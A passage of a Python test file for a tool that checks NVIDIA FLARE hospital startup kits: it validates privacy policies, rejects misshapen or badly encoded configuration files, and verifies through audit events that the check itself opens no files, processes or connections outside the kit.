    assert f"scope feddp is below the consortium's minimum: {words}." in line


def test_what_a_hospital_has_loosened_is_marked(kit):
    """It is the hospital's to decide, and its administrator sees that it was decided."""
    own = {"seed": "plan", "approve": "any", "budget": {"jobs": 10**9}}
    edit(kit / "local/privacy.json", lambda p: p["scopes"][0]["properties"].update(own))
    assert check(kit, offline=True)[1] == []
    shown = list(effective(Kit.open(kit)))
    (seed,) = [line for line in shown if "(seed)" in line]
    assert seed.endswith("(seed): plan [default: own]")
    assert [line for line in shown if "(approve): any [default: none]" in line]
    assert [line for line in shown if line.endswith("[default: jobs 20; evaluations 10000]")]
    assert not [line for line in shown if "(min_images)" in line and "left out" in line]


@pytest.mark.parametrize("wrong", [{"components": 5}, {"scopes": 5}, {"scopes": [{"name": "feddp", "properties": [1]}]}])
def test_a_policy_of_another_shape_is_refused_in_words(kit, wrong):
    edit(kit / "local/privacy.json", lambda p: p.update(wrong))
    assert f"{kit}/local/privacy.json" in said(kit)[0]


def test_filters_that_are_null_are_none(kit):
    """FLARE takes null for an empty list."""
    edit(kit / "local/privacy.json", lambda p: p["scopes"][0].update(task_data_filters=None))
    assert problems_of(kit) == []


def _more(scope):
    return lambda p: p["scopes"].append(scope)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda p: p.update(default_scope="other"), "has the default_scope 'other', but no scope of that name"),
        (
            lambda p: p.update(default_scope="feddp"),
            "has the default_scope 'feddp': a job that names no scope would run under it",
        ),
        (lambda p: p["scopes"].append(p["scopes"][0]), "has the scope feddp twice. Remove one"),
        (_more("research"), "has 'research' among its scopes. Write an object"),
        (_more({"properties": {}}), "has a scope whose name is None. Write a name"),
        (_more({"name": ""}), "has a scope whose name is ''"),
        (_more({"name": 7}), "has a scope whose name is 7"),
        (_more({"name": "b", "properties": None}), "scope b: privacy.json's properties are None"),
        (lambda p: p["scopes"][0].update(task_data_filters={"path": GUARD}), "its task_data_filters are not a list of objects"),
        (lambda p: p["scopes"][0]["task_result_filters"][0].update(direction="up"), "has the direction 'up'. Write one of in"),
        (
            lambda p: p["scopes"][0].update(private=["query"]),
            "scope feddp has the key 'private', which FLARE ignores. Write it into the `properties` of a scope",
        ),
        (lambda p: p.update(min_images=50), "the file has the key 'min_images', which FLARE ignores. Write it into the `prop"),
        (lambda p: p.update(comment="mine"), "the file has the key 'comment', which FLARE ignores. Remove it"),
    ],
)
def test_what_flare_does_not_load_or_ignores_is_named(kit, change, words):
    """A job that is admitted under such a policy would end for all sites, or run without a word of it in force."""
    edit(kit / "local/privacy.json", change)
    (line,) = said(kit)
    assert f"{kit}/local/privacy.json: " in line
    assert words in line


@pytest.mark.parametrize(
    ("encoding", "words"), [("utf-8-sig", "begins with a byte order mark"), ("utf-16", "is not UTF-8 text")]
)
@pytest.mark.parametrize("name", ["privacy.json", "resources.json.default", "authorization.json.default"])
def test_an_encoding_that_flare_does_not_read(kit, flare_starts, name, encoding, words):
    """Editors write such files; the control: FLARE does not start with them."""
    path = kit / "local" / name
    path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))
    (line,) = said(kit)
    assert line.startswith(f"{path}: {words}, which FLARE ")
    started = flare_starts(kit)
    assert started.returncode == 1
    assert "Error" in started.stderr


def test_a_filter_is_built_to_see_whether_it_takes_its_arguments(kit):
    """The other side of the list: what is on it is built."""
    edit(kit / "local/privacy.json", lambda p: p["scopes"][0].update(task_result_filters=[{"path": GUARD, "args": {"x": 1}}]))
    (line,) = said(kit)
    assert "names a filter that FLARE cannot build" in line


# what the check itself does

FILES = {"open", "os.listdir", "os.scandir", "os.mkdir", "os.rename", "os.remove", "os.chmod"}
RUNS = {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "ctypes.dlopen"}
NETWORK = {"socket.connect", "socket.getaddrinfo", "socket.bind"}


def outside(events: list, *folders: Path) -> list[str]:
    """Every file that is in none of the folders; numbers are files that are open already."""
    files = [args[0] for event, args in events if event in FILES and not args[0].isdigit()]
    return [name for name in files if not any(Path(name).resolve().is_relative_to(folder.resolve()) for folder in folders)]


def test_the_check_opens_nothing_outside_kit_data_and_packages(kit, forked, tiny_root, tmp_path):
    """Every file, process, connection and library of the whole check, in a process that loaded the installed software, with
    what kits name and FLARE's client, before it heard of the kit. The control: one file more, afterwards."""
    (tmp_path / "elsewhere").write_text("x")
    data = tiny_root / "site-1"
    software = [Path(sys.prefix), Path(sys.base_prefix), ROOT / "custom"]
    words = ("kit", "check", "--offline", str(kit))
    done = forked(tmp_path, "watch", str(tmp_path / "elsewhere"), sorted(FILES | RUNS | NETWORK), *words)
    assert done.returncode == 0, done.stderr
    checking, control = json.loads(done.stdout.splitlines()[-1])
    assert outside(checking, kit, data, *software) == []
    assert [event for event in checking if event[0] in RUNS | NETWORK] == []
    opened = {args[0] for event, args in checking if event == "open"}
    assert {str(kit / "startup/sub_start.sh"), str(kit / "local/privacy.json"), str(data / "split.csv")} <= opened
    assert outside(control, kit, data, *software) == [str(tmp_path / "elsewhere")]


OPEN = f'lets other users .* claim to be its own processes .*[.] Write "internal": {re.escape(json.dumps(INTERNAL))}'


@pytest.mark.parametrize(
    ("name", "module", "content", "said"),
    [
        ("hospital-a", "client.client_train", COMMUNICATION, OPEN),
        (SERVER, "server.server_train", COMMUNICATION, OPEN),
        ("hospital-a", "client.client_train", [], "is not a JSON object"),
    ],
)
def test_a_kit_without_own_connections_does_not_start(copy, name, module, content, said):
    """Of an earlier version, not checked: it would start, take a job and fail in it. FLARE's own process, as its script starts
    it; that it starts otherwise, test_deployment.py shows."""
    kit = copy(name)
    script = (kit / "startup/sub_start.sh").read_text()
    command = re.search(rf"python3 (-u -m nvflare\.private\.fed\.app\.{module} .*)", script)[1].replace("$WORKSPACE", str(kit))
    (kit / "local/comm_config.json").write_text(json.dumps(content))
    done = subprocess.run([sys.executable, *shlex.split(command)], cwd="/", capture_output=True, text=True, timeout=120)
    assert done.returncode == 2, done.stderr
    lines = [line for line in (done.stdout + done.stderr).splitlines() if "comm_config.json" in line]
    assert len(lines) == 1
    assert re.match(f"{re.escape(str(kit))}/local/comm_config.json: {said}", lines[0])
    assert "Traceback" not in done.stdout + done.stderr
